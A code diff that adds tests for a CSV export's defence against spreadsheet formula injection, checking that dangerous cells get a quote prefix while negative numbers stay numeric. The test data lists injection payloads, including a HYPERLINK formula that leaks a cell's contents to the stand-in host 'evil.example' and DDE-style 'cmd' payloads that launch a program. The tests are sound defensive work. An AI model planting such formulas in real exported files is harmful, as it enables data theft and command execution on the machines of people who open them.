@@ -55,6 +55,30 @@ describe('toCsv', () => {
   });
 });
 
+describe('formula injection (issue 16)', () => {
+  const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+
+  it('text that a spreadsheet would run is prefixed with a quote; numbers, negative ones included, stay numbers', () => {
+    const rows = parseCsv(toCsv(['note', 'cash'], PAYLOADS.map((p) => [p, '-1234.56'])));
+    for (const [i, row] of rows.slice(1).entries()) {
+      expect(row[0]).toBe(`'${PAYLOADS[i] ?? ''}`);
+      expect(row[1]).toBe('-1234.56');
+    }
+    expect(toCsv(['a'], [[-5], ['+3'], ['1e5'], ['- a list item'], ['safe = text']])).toBe("a\r\n-5\r\n+3\r\n1e5\r\n'- a list item\r\nsafe = text\r\n");
+  });
+
+  it('notes and tags in the report CSVs are neutralised', async () => {
+    const { portfolioId, layerIds } = await seedReportJournal(t.backend);
+    await t.backend.send('layer/update', { layerId: layerIds.a, tags: ['=cmd', '@x'], notes: '' });
+    await t.backend.send('ticket/add', { layerId: layerIds.e, date: '2026-05-28', action: 'close', quantity: 1, netPriceHundredths: -300, feesCents: 0, note: '=HYPERLINK("http://evil.example","x")' });
+    const csv = reportCsvs(await gatherReportData(t.backend, { portfolioId, from: null, to: '2026-05-29' }));
+    const tickets = records(csv['tickets.csv'], TICKET_COLUMNS);
+    expect(tickets.find((r) => r.note.includes('HYPERLINK'))?.note).toBe('\'=HYPERLINK("http://evil.example","x")');
+    expect(records(csv['layers.csv'], LAYER_COLUMNS).find((l) => l.layerId === String(layerIds.a))?.tags).toBe("'=cmd;@x");
+    expect(tickets.some((r) => r.ticketCash.startsWith('-') && !r.ticketCash.startsWith("'"))).toBe(true);
+  });
+});
+
 describe('report CSVs', () => {
   it('sum to the handlers totals without double counting', async () => {
     const { portfolioId, layerIds } = await seedReportJournal(t.backend);
